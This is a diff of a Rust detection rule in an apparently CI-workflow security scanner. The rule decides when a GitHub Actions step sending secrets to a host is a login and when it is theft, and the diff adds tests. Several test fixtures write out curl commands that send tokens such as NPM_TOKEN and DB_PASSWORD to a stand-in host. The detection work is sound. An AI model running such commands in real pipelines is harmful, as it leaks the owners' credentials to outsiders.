@@ -12,12 +12,18 @@
 //! how deployments work, and is not reported. What makes it a theft is that more is taken than the receiver can use
 //! (unrelated secrets, all of them, their names along with them), or that trouble is taken to hide it.
 
+use std::collections::BTreeSet;
+
+use crate::destination::Place;
 use crate::flow::command::REMOTE_CODE;
 use crate::flow::trace::{Channel, Role};
-use crate::flow::value::Source;
+use crate::flow::value::{Carried, Encoding, Source};
 use crate::report::Class;
-use crate::signal::Signal;
-use crate::technique::{Evidence, Sighting, Technique, is_namesake, named_secrets, resembles, unrelated};
+use crate::signal::{Signal, Weight};
+use crate::technique::{
+    Evidence, Sighting, Technique, fits_login, is_namesake, named_secrets, one_login, resembles, stem,
+    unrelated,
+};
 
 /// See the module's documentation.
 pub(super) struct SecretToHost;
@@ -80,7 +86,13 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
     if let Some(service) = place.service {
         let strangers = unrelated(&names, Some(&service.name), None);
         let misplaced = payload && strangers;
-        if !everything && !misplaced {
+        // Settings that a service takes from whoever logs in with its own credential: a variable of a project, say. What a
+        // forge takes can be read again, and has a rule of its own.
+        let login =
+            |name: &String| crate::services::of_secret(name).is_some_and(|of| of.name == service.name);
+        let sent = payload_names(evidence, &group);
+        let configures = service.name != "github" && !greedy && names.difference(&sent).any(login);
+        if !everything && (!misplaced || configures) {
             return None;
         }
         signals.insert(Signal::BelongsThere);
@@ -93,6 +105,19 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         return None;
     }
     if place.class == Class::Chat && is_own_hook(evidence, &group) {
+        return None;
+    }
+    // A project of the owner's at a platform that gives names away: its own keys belong there.
+    let platform = crate::services::of_host(host);
+    let at_home = platform.is_some_and(|platform| {
+        let of = |name: &String| crate::services::of_secret(name).map(|service| &service.name);
+        !names.is_empty() && names.iter().all(|name| of(name) == Some(&platform.name))
+    });
+    if at_home && !greedy && !signals.contains(&Signal::MaskEvasion) {
+        return None;
+    }
+    if place.is_private() && !greedy {
+        // Nobody outside of the owner's network stands there.
         return None;
     }
     signals.insert(Signal::ForeignDestination);
@@ -118,7 +143,18 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         signals.insert(Signal::BareSecret);
     }
     let job_token = carried.iter().any(|one| one.source == Source::JobToken);
-    let login_host = (!payload).then_some(host);
+    let only_logs_in = group.iter().filter_map(|at| evidence.delivery(*at)).all(|(delivery, place)| {
+        delivery.role == Role::Authentication
+            || delivery.role == Role::Address && is_login_address(place, &names)
+    });
+    let login_host = only_logs_in.then_some(host);
+    if one_login(&names)
+        && names.iter().all(|name| matches!(stem(name).as_str(), "" | "CLIENT" | "OAUTH" | "APP"))
+    {
+        // `client_id=…&client_secret=…`: the labels are those of the protocol (RFC 6749, section 2.3.1).
+        signals.remove(&Signal::LabelledSecrets);
+    }
+    let own_registry = only_logs_in && is_own_registry(&names, host);
     let to_chat = place.class == Class::Chat && payload;
     let shipped = group
         .iter()
@@ -133,8 +169,17 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         signals.insert(Signal::LogsInFirst);
         return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
     }
-    if unrelated(&names, None, login_host)
-        || several_purposes(&names)
+    let sent = payload_names(evidence, &group);
+    // The owner's own settings, for a receiver that asks for a login of its own.
+    let settings = sent.len() < names.len()
+        && place.class == Class::Unknown
+        && !unrelated(&names, None, None)
+        && !names.iter().any(|name| opens_publishing(name));
+    if settings {
+        signals.remove(&Signal::LabelledSecrets);
+    }
+    if unrelated(&names, None, login_host) && !own_registry
+        || !settings && several_purposes(&names)
         || (job_token && !names.is_empty())
         || to_chat
     {
@@ -144,6 +189,9 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         place.url.as_ref().and_then(|url| url.unescaped().split_once("://")).map_or("", |(scheme, _)| scheme);
     if !payload && place.class == Class::Unknown && names.iter().any(|name| resembles(name, host, scheme)) {
         signals.insert(Signal::NamedAlike);
+    }
+    if is_login_only(evidence, &group, place, &names, &carried, scheme, &signals) {
+        signals.insert(Signal::LoginOnly);
     }
     Some(Sighting { deliveries: group, signals, ..Sighting::default() })
 }
@@ -173,22 +221,110 @@ fn is_own_hook(evidence: &Evidence<'_>, group: &[usize]) -> bool {
 }
 
 /// Names that share no word but those that every credential has: nothing ties them together.
-fn several_purposes(names: &std::collections::BTreeSet<String>) -> bool {
-    const COMMON: &[&str] = &[
-        "TOKEN", "KEY", "SECRET", "PASSWORD", "PASS", "API", "ID", "USER", "USERNAME", "URL", "HOST", "AUTH",
-        "ACCESS",
-    ];
-    if names.len() < 3 {
+fn several_purposes(names: &BTreeSet<String>) -> bool {
+    names.len() >= 3 && names.iter().map(|name| stem(name)).collect::<BTreeSet<_>>().len() >= 3
+}
+
+/// Names of the secrets that are sent, and are not the login.
+fn payload_names(evidence: &Evidence<'_>, group: &[usize]) -> BTreeSet<String> {
+    let deliveries = group.iter().filter_map(|at| evidence.delivery(*at)).map(|(delivery, _)| delivery);
+    let sent: Vec<&Carried> = deliveries
+        .filter(|delivery| delivery.role != Role::Authentication)
+        .flat_map(|delivery| &delivery.carried)
+        .collect();
+    named_secrets(&sent)
+}
+
+/// Whether one credential, whose name speaks against nothing, is the login to a host and nothing else goes there: in a
+/// header, in the address where logins stand, or as the pair of a name and its password.
+fn is_login_only(
+    evidence: &Evidence<'_>,
+    group: &[usize],
+    place: &Place,
+    names: &BTreeSet<String>,
+    carried: &[&Carried],
+    scheme: &str,
+    signals: &BTreeSet<Signal>,
+) -> bool {
+    let ordinary = |one: &&Carried| {
+        let plain = |encoding: &Encoding| {
+            matches!(encoding, Encoding::Base64 | Encoding::Base64Wrapped | Encoding::Escaped)
+        };
+        matches!(one.source, Source::Secret(_)) && one.encodings.iter().all(plain)
+    };
+    let quiet = !signals.iter().any(|signal| matches!(signal.weight(), Weight::Greed | Weight::Hiding))
+        && !signals.contains(&Signal::PlainHttp)
+        && !(signals.contains(&Signal::Masquerade) && signals.contains(&Signal::SinglePurpose));
+    if !quiet
+        || !matches!(place.class, Class::Unknown | Class::FreeHosting)
+        || !one_login(names)
+        || !carried.iter().all(ordinary)
+    {
         return false;
     }
-    let stems: std::collections::BTreeSet<String> = names
-        .iter()
-        .map(|name| {
-            let upper = name.to_ascii_uppercase();
-            upper.split('_').find(|word| !COMMON.contains(word)).unwrap_or("").to_owned()
-        })
-        .collect();
-    stems.len() >= 3
+    let host = place.host.as_deref().unwrap_or("");
+    let pair = is_pair(names);
+    if !fits_login(names, host, scheme) && !(pair && is_own_registry(names, host)) {
+        return false;
+    }
+    // Of a pair in a form nothing may be known but that it is at home there.
+    let pair = pair
+        && names
+            .iter()
+            .filter_map(|name| crate::services::of_secret(name))
+            .all(|service| service.self_hosted && host.contains(&service.name));
+    group.iter().filter_map(|at| evidence.delivery(*at)).all(|(delivery, place)| match delivery.role {
+        Role::Authentication => true,
+        Role::Address => is_login_address(place, names),
+        Role::Payload => pair,
+    })
+}
+
+fn is_login_address(place: &Place, names: &BTreeSet<String>) -> bool {
+    place.url.as_ref().is_some_and(|url| in_login_position(url.unescaped(), names))
+}
+
+/// Whether a registry's credential goes to a registry of the owner's own: `PYPI_PASSWORD` at `pypi.widgets.example`. The name has to
+/// come first, and the domain must be another's: `pypi.example` and `upload.pypi.widgets.example` are made to be taken for PyPI's.
+fn is_own_registry(names: &BTreeSet<String>, host: &str) -> bool {
+    let first = host.split('.').next().unwrap_or("");
+    !names.is_empty()
+        && first.len() < crate::destination::registrable(host).len()
+        && !crate::destination::registrable(host).starts_with(&format!("{first}."))
+        && names
+            .iter()
+            .all(|name| crate::services::of_secret(name).is_some_and(|of| of.publishes && first == of.name))
+}
+
+/// A name and its password: the two halves of a login that a form takes.
+fn is_pair(names: &BTreeSet<String>) -> bool {
+    let has = |wanted: &[&str]| {
+        names
+            .iter()
+            .any(|name| crate::services::words(name).iter().any(|word| wanted.contains(&word.as_str())))
+    };
+    names.len() >= 2
+        && has(&["ID", "USER", "USERNAME", "EMAIL", "LOGIN"])
+        && has(&["SECRET", "PASSWORD", "PASS", "PW"])
+}
+
+/// Whether each secret in an address stands where a login does: the value of `?token=` and the like, or a step of the path
+/// where its name says that the address is the secret (`DEPLOY_HOOK`).
+fn in_login_position(url: &str, names: &BTreeSet<String>) -> bool {
+    const PARAMETERS: &[&str] =
+        &["key", "token", "secret", "appid", "app_id", "auth", "password", "pass", "pwd", "code", "sig"];
+    const ADDRESSES: &[&str] =
+        &["HOOK", "WEBHOOK", "PING", "HEARTBEAT", "HEALTHCHECK", "UUID", "TRIGGER", "PATH", "ENDPOINT", "ID"];
+    names.iter().all(|name| {
+        let placeholder = format!("${{{name}}}");
+        let Some(at) = url.find(&placeholder) else { return true };
+        let before = url.get(..at).unwrap_or("");
+        let parameter = before.rsplit(['?', '&', ';']).next().unwrap_or("").to_ascii_lowercase();
+        match parameter.strip_suffix('=').filter(|_| before.contains('?')) {
+            Some(parameter) => PARAMETERS.iter().any(|known| parameter.ends_with(known)),
+            None => crate::services::words(name).iter().any(|word| ADDRESSES.contains(&word.as_str())),
+        }
+    })
 }
 
 #[cfg(test)]
@@ -244,15 +380,99 @@ mod tests {
         );
     }
 
+    fn sent(call: &str, verdict: Verdict, secrets: &[&str], host: &str) {
+        let text = format!(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          {call}\n"
+        );
+        check("secret-to-host", &text, verdict, secrets, &[host]);
+    }
+
     /// Near miss: one credential as the login to an unknown host may be the owner's own server.
     #[test]
-    fn one_credential_at_an_unknown_host_is_for_a_person_to_look_at() {
-        check(
-            "secret-to-host",
-            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.DEPLOY }}\" https://ci.widgets.example/deploy\n",
+    fn one_login_at_an_unknown_host_is_an_ordinary_thing() {
+        for (call, secrets) in [
+            (
+                "curl -H \"Authorization: Bearer ${{ secrets.DEPLOY }}\" https://ci.widgets.example/deploy",
+                &["DEPLOY"][..],
+            ),
+            ("curl \"https://ci.widgets.example/cron?key=${{ secrets.CRON_KEY }}\"", &["CRON_KEY"]),
+            ("curl -X POST https://ci.widgets.example/hooks/${{ secrets.MY_HOOK }}", &["MY_HOOK"]),
+            (
+                "curl -d 'client_id=${{ secrets.CLIENT_ID }}&client_secret=${{ secrets.CLIENT_SECRET }}' https://ci.widgets.example/token",
+                &["CLIENT_ID", "CLIENT_SECRET"],
+            ),
+        ] {
+            sent(call, Verdict::Exposed, secrets, "ci.widgets.example");
+        }
+    }
+
+    /// Evasion: what looks like a login and is none.
+    #[test]
+    fn a_login_that_is_none_is_looked_at() {
+        for (call, verdict, secrets) in [
+            (
+                "curl -d \"x=${{ secrets.DEPLOY }}\" https://ci.widgets.example/",
+                Verdict::Suspicious,
+                &["DEPLOY"][..],
+            ),
+            ("curl https://ci.widgets.example/${{ secrets.DEPLOY }}", Verdict::Suspicious, &["DEPLOY"]),
+            (
+                "curl \"https://ci.widgets.example/?q=${{ secrets.DEPLOY }}\"",
+                Verdict::Suspicious,
+                &["DEPLOY"],
+            ),
+            (
+                "curl -H \"X: ${{ secrets.DEPLOY }}\" http://ci.widgets.example/",
+                Verdict::Suspicious,
+                &["DEPLOY"],
+            ),
+            (
+                "curl -H \"X: ${{ secrets.DEPLOY_KEY }}\" https://ci.widgets.example/",
+                Verdict::Suspicious,
+                &["DEPLOY_KEY"],
+            ),
+            (
+                "curl -H \"X: ${{ secrets.NPM_TOKEN }}\" https://ci.widgets.example/",
+                Verdict::Malicious,
+                &["NPM_TOKEN"],
+            ),
+            (
+                "curl -H \"X: ${{ secrets.DEPLOY }}\" -H \"Y: ${{ secrets.STAGING }}\" https://ci.widgets.example/",
+                Verdict::Suspicious,
+                &["DEPLOY", "STAGING"],
+            ),
+        ] {
+            sent(call, verdict, secrets, "ci.widgets.example");
+        }
+    }
+
+    /// Near miss: settings of an application, sent to a server that asks for a login.
+    #[test]
+    fn settings_behind_a_login_are_for_a_person_to_look_at() {
+        sent(
+            "curl -H \"Authorization: Bearer ${{ secrets.ADMIN }}\" -d 'DB_PASSWORD=${{ secrets.DB_PASSWORD }}&SMTP=${{ secrets.SMTP }}' https://ci.widgets.example/",
             Verdict::Suspicious,
-            &["DEPLOY"],
-            &["ci.widgets.example"],
+            &["ADMIN", "DB_PASSWORD", "SMTP"],
+            "ci.widgets.example",
         );
+        sent(
+            "curl -H \"Authorization: Bearer ${{ secrets.ADMIN }}\" -d 'DB_PASSWORD=${{ secrets.DB_PASSWORD }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://ci.widgets.example/",
+            Verdict::Malicious,
+            &["ADMIN", "DB_PASSWORD", "NPM_TOKEN"],
+            "ci.widgets.example",
+        );
+    }
+
+    #[test]
+    fn a_key_at_the_platform_that_gave_it_and_hosts_of_a_private_network_are_silent() {
+        for call in [
+            "curl -H \"apikey: ${{ secrets.SUPABASE_SERVICE_ROLE_KEY }}\" https://abcdef.supabase.co/rest/v1/runs",
+            "curl -H \"Authorization: ${{ secrets.DEPLOY }}\" http://10.1.2.3:8080/deploy",
+            "curl -H \"Authorization: ${{ secrets.WIDGETS_PAT }}\" https://api.widgets.io/deploy",
+        ] {
+            silent(&format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          {call}\n"
+            ));
+        }
     }
 }
